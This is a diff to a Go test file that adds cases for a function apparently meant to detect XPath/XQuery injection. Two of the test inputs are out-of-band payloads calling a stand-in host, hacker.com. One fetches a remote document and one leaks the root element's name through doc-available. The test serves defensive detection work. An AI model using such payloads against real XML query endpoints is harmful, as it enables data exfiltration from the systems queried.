@@ -20,3 +20,20 @@ func TestInjection(t *testing.T) {
 		}
 	}
 }
+
+func TestFetch(t *testing.T) {
+	for _, c := range []struct {
+		s    string
+		want int
+	}{
+		{"doc('http://hacker.com/file.xml')", 0},
+		{"doc-available(concat('http://hacker.com/oob/', name(/*)))", 0},
+		{"x = db.doc('users/123')", -1},
+		{"doc('users/123')", -1},
+		{"see the doc (chapter 2)", -1},
+	} {
+		if got := fetch(c.s); got != c.want {
+			t.Errorf("fetch(%q) = %d, want %d", c.s, got, c.want)
+		}
+	}
+}
